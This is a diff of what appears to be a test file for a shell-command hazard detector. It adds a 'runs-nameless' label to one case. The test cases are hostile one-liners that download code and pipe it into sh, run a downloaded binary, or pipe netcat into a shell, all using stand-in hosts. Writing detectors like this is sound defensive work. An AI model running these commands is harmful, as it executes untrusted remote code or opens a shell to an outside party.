@@ -26,7 +26,7 @@ expectHazards([
   ['cd /tmp; wget https://a.example/m; chmod 755 m; ./m', 'runs-download'],
   ['curl https://a.example > x; sh < x', 'runs-download'],
   ['curl https://a.example > x; cat x | sh', 'runs-download'],
-  ['nc 192.0.2.1 99 | sh', 'reverse-shell runs-download'],
+  ['nc 192.0.2.1 99 | sh', 'reverse-shell runs-download runs-nameless'],
   ['fetch -o - https://a.example | sh', 'runs-download'],
   ['bash -c "curl https://a.example | sh"', 'runs-download'],
   [
